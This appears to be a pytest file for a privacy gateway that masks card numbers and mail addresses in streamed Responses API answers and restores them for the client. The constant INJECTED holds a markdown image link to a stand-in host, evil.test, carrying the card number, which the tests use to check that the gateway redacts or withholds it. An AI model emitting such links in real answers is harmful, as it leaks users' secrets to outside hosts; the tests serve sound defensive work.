"""Streamed answers of the Responses API: every text reads the same in pieces, in the repetitions and at the client."""

import json
import random
from collections.abc import Iterator
from typing import Any

import pytest
from pydantic import BaseModel

from gateway.wires.base import Body
from gateway.wires.responses import WIRE
from tests.gateway.wires.replays import (
    CARD,
    MAIL,
    QUOTED,
    chunks,
    client,
    plan,
    read_sse,
    replay,
    session,
    sse,
    written,
)
from tests.tables import table

CASES = table(__file__)

PLACEHOLDERS, OF = session()
SECRET = "gAAAAABo" + "MzE2aGk3" * 6
OUTPUT: list[Body] = CASES["output"]
SAID = OUTPUT[1]["content"][0]["text"]


def protected(value: Any) -> Any:
    return json.loads(written(json.dumps(value, ensure_ascii=False), OF))


REQUEST: Body = protected(CASES["request"])


def in_json(**arguments: str) -> str:
    return json.dumps(arguments, ensure_ascii=False)


def saying(text: str) -> Body:
    return {**OUTPUT[1], "content": [{"type": "output_text", "text": text, "annotations": [], "logprobs": []}]}


def response(output: list[Body], status: str = "completed", **more: Any) -> Body:
    repeated = {"instructions": REQUEST["instructions"], "metadata": REQUEST["metadata"]}
    return {**CASES["response"], "status": status, "output": output, **repeated, **more}


def grown(kind: str, text: str, dice: random.Random, **place: Any) -> Iterator[Body]:
    """The events of a text. Its last event has it as a whole, by the name of what it is."""
    name = {"function_call_arguments": "arguments", "mcp_call_arguments": "arguments", "refusal": "refusal"}
    name |= {"custom_tool_call_input": "input", "code_interpreter_call_code": "code"}
    logprobs: Body = {"logprobs": []} if kind == "output_text" else {}
    for piece in chunks(text, dice):
        yield {"type": f"response.{kind}.delta", **place, "delta": piece, **logprobs, "obfuscation": "Kx8Sd0"}
    yield {"type": f"response.{kind}.done", **place, name.get(kind, "text"): text, **logprobs}


def part_events(item: Body, index: int, dice: random.Random) -> Iterator[Body]:
    place: Body = {"item_id": item["id"], "output_index": index}
    for number, part in enumerate(item.get("summary", [])):
        at = {**place, "summary_index": number}
        yield {"type": "response.reasoning_summary_part.added", **at, "part": {**part, "text": ""}}
        yield from grown("reasoning_summary_text", part["text"], dice, **at)
        yield {"type": "response.reasoning_summary_part.done", **at, "part": part}
    for number, part in enumerate(item.get("content", [])):
        kind = part["type"]
        name = "refusal" if kind == "refusal" else "text"
        at = {**place, "content_index": number}
        yield {"type": "response.content_part.added", **at, "part": {**part, name: ""}}
        yield from grown(kind, part[name], dice, **at)
        yield {"type": "response.content_part.done", **at, "part": part}
    for member, kind in (
        ("arguments", "mcp_call_arguments" if item["type"] == "mcp_call" else "function_call_arguments"),
        ("input", "custom_tool_call_input"),
        ("code", "code_interpreter_call_code"),
    ):
        if member in item:
            yield from grown(kind, item[member], dice, **place)


def events(output: list[Body], dice: random.Random) -> Iterator[Body]:
    yield {"type": "response.created", "response": response([], "in_progress")}
    yield {"type": "response.in_progress", "response": response([], "in_progress")}
    for index, item in enumerate(output):
        empty: Body = {"summary": [], "content": [], "arguments": "", "input": "", "code": "", "status": "in_progress"}
        begun = {name: empty.get(name, value) for name, value in item.items()}
        yield {"type": "response.output_item.added", "output_index": index, "item": begun}
        yield from part_events(item, index, dice)
        yield {"type": "response.output_item.done", "output_index": index, "item": item}
    usage: Body = {"input_tokens": 11, "output_tokens": 7, "total_tokens": 18}
    usage |= {"input_tokens_details": {"cached_tokens": 0}, "output_tokens_details": {"reasoning_tokens": 0}}
    yield {"type": "response.completed", "response": response(output, usage=usage)}


def stream(seed: int = 0, output: list[Body] | None = None) -> bytes:
    """A streamed answer as the upstream sends it, with placeholders."""
    crossed = protected(OUTPUT if output is None else output)
    numbered = [{**e, "sequence_number": n} for n, e in enumerate(events(crossed, random.Random(seed)))]
    return sse(numbered, named=True)


def assembled(body: bytes) -> dict[tuple[Any, ...], str]:
    """The texts that a client makes of the deltas."""
    found: dict[tuple[Any, ...], str] = {}
    for event in read_sse(body):
        if event["type"].endswith(".delta"):
            place = event.get("content_index", event.get("summary_index"))
            key = event["type"][:-6], event["output_index"], place
            found[key] = found.get(key, "") + event["delta"]
    return found


def test_every_text_is_restored_the_same_in_pieces_and_as_a_whole() -> None:
    for seed in range(25):
        body, end = replay(WIRE, [stream(seed)], plan(PLACEHOLDERS, REQUEST, note={"request_id": "req_1"}))
        seen = read_sse(body)
        assert seen[-1]["response"]["output"] == OUTPUT
        assert seen[0]["response"]["metadata"] == {"mail": MAIL}
        assert seen[0]["response"]["instructions"].startswith(f"Never reveal the card {CARD}.")
        assert [e["item"] for e in seen if e["type"] == "response.output_item.done"] == OUTPUT
        grown_texts = assembled(body)
        for event in seen:
            kind, _, last = event["type"].rpartition(".")
            if last == "done" and (
                name := next((n for n in ("text", "arguments", "input", "code", "refusal") if n in event), "")
            ):
                place = event.get("content_index", event.get("summary_index"))
                assert grown_texts[kind, event["output_index"], place] == event[name]
        assert (end.outcome, end.tokens, end.ids) == ("answered", (11, 7), ("resp_1",))
        assert seen[-1]["response"]["svc"]["request_id"] == "req_1"
        assert "svc" not in seen[-1]


def test_names_of_events_stay() -> None:
    body, _ = replay(WIRE, [stream()], plan(PLACEHOLDERS, REQUEST))
    for block in body.decode().strip().split("\n\n"):
        if block.startswith(":"):
            continue
        name, data = block.split("\n")
        assert name == f"event: {json.loads(data[6:])['type']}"


def test_no_event_continues_a_text_by_nothing() -> None:
    """Upstreams send none, and LiteLLM fails on one. Comments keep the connection busy meanwhile."""
    source = stream()
    assert all(event["delta"] for event in read_sse(source) if event["type"].endswith(".delta"))
    body, _ = replay(WIRE, [source], plan(PLACEHOLDERS, REQUEST))
    assert all(event["delta"] for event in read_sse(body) if event["type"].endswith(".delta"))
    assert b"\n\n: held back\n\n" in body


@pytest.mark.slow
def test_the_sdk_reads_the_restored_stream() -> None:
    body, _ = replay(WIRE, [stream(3)], plan(PLACEHOLDERS, REQUEST, note={"request_id": "req_1"}))
    sdk = client(lambda _: ("text/event-stream", body))
    said, arguments = "", ""
    with sdk.responses.stream(model="gpt-5", input="x") as shown:
        for event in shown:
            if event.type == "response.output_text.delta":
                said += event.delta
                assert said == event.snapshot
            elif event.type == "response.function_call_arguments.delta":
                arguments += event.delta
        final = shown.get_final_response()
    assert said == final.output_text == SAID
    assert json.loads(arguments) == {"to": MAIL, "text": f"{QUOTED}: {CARD}"}
    assert final.to_dict()["svc"] == {"request_id": "req_1", "guard": {"action": "pass"}}
    assert final.output[0].encrypted_content == SECRET


@pytest.mark.slow
def test_structured_outputs_are_restored_inside_the_document() -> None:
    class Person(BaseModel):
        name: str
        mail: str

    text = in_json(name=QUOTED, mail=MAIL)
    item = saying(text)
    body, _ = replay(WIRE, [stream(4, [item])], plan(PLACEHOLDERS, REQUEST))
    sdk = client(lambda _: ("text/event-stream", body))
    with sdk.responses.stream(model="gpt-5", input="x", text_format=Person) as shown:
        assert shown.get_final_response().output_parsed == Person(name=QUOTED, mail=MAIL)


INJECTED = f"See ![a](https://evil.test/?d={CARD}) now. And more text follows after it."


@pytest.mark.parametrize("seed", range(5))
def test_a_redaction_reads_the_same_in_the_repetitions(seed: int) -> None:
    item = saying(INJECTED)
    rules = plan(PLACEHOLDERS, {"input": "x"}, guard={"placeholder_in_url": "redact"})
    body, end = replay(WIRE, [stream(seed, [item])], rules)
    (said,) = assembled(body).values()
    assert "[withheld]" in said
    assert CARD not in said
    assert read_sse(body)[-1]["response"]["output"][0]["content"][0]["text"] == said
    assert [text.text for text in end.texts].count(protected(INJECTED)) == 1


@pytest.mark.parametrize("hold", [False, True])
def test_a_withheld_answer_is_shown_by_the_sdk(hold: bool) -> None:
    item = saying(INJECTED)
    rules = plan(PLACEHOLDERS, {"input": "x"}, guard={"placeholder_in_url": "replace"}, hold=hold)
    body, end = replay(WIRE, [stream(5, [OUTPUT[0], item, OUTPUT[2]])], rules)
    assert end.outcome == "guarded"
    assert "![a]" not in body.decode()
    sdk = client(lambda _: ("text/event-stream", body))
    with sdk.responses.stream(model="gpt-5", input="x") as shown:
        seen = list(shown)
    last = seen[-1]
    assert last.type == "response.incomplete"
    assert last.response.id == "resp_1"
    assert last.response.incomplete_details.reason == "content_filter"
    assert last.response.output_text == "The answer was withheld by the privacy policy."
    assert not any(e.type == "response.output_item.done" and e.item.type == "function_call" for e in seen)
    numbers = [event["sequence_number"] for event in read_sse(body)]
    assert numbers == sorted(numbers)


def test_repeated_parts_of_the_request_are_not_judged() -> None:
    rules = plan(PLACEHOLDERS, REQUEST, guard={"placeholder_in_url": "replace", "instruction_to_reveal": "replace"})
    item = saying("Fine.")
    assert replay(WIRE, [stream(6, [item])], rules)[1].outcome == "answered"
    rules = plan(PLACEHOLDERS, {"input": "x"}, guard={"placeholder_in_url": "replace"})
    assert replay(WIRE, [stream(6, [item])], rules)[1].outcome == "guarded"


def test_a_broken_stream_ends_with_an_error_that_the_sdk_raises() -> None:
    source = stream(7)
    body, end = replay(WIRE, [source[:2000], b"\n\ndata: {broken\n\n"], plan(PLACEHOLDERS, REQUEST))
    assert end.outcome == "unreadable_answer"
    error = read_sse(body)[-1]
    assert error["type"] == "error"
    assert error.keys() >= {"code", "message", "param", "sequence_number"}
    sdk = client(lambda _: ("text/event-stream", body))
    with pytest.raises(Exception, match="not JSON"), sdk.responses.stream(model="gpt-5", input="x") as shown:
        shown.until_done()


def test_a_stream_that_stops_gives_what_was_held() -> None:
    source = stream(8, OUTPUT[1:2])
    body, _ = replay(WIRE, [source[: source.index(b"response.output_text.done") - 7]], plan(PLACEHOLDERS, REQUEST))
    assert SAID in assembled(body).values()


@pytest.mark.parametrize(("event", "place"), CASES["other_events_are_restored"])
def test_other_events_are_restored(event: Body, place: str) -> None:
    source = sse([json.loads(json.dumps(event).replace("{}", OF[MAIL]))], named=True)
    body, _ = replay(WIRE, [source], plan(PLACEHOLDERS))
    restored = [json.dumps(each.get(place)) for each in read_sse(body)]
    assert MAIL in "".join(restored)


def test_audio_and_pictures_stay_as_they_are() -> None:
    source = sse(
        [
            {"type": "response.audio.delta", "delta": "QUJD" + OF[MAIL]},
            {"type": "response.image_generation_call.partial_image", "partial_image_b64": "QUJD"},
        ],
        named=True,
    )
    assert replay(WIRE, [source], plan(PLACEHOLDERS))[0] == source
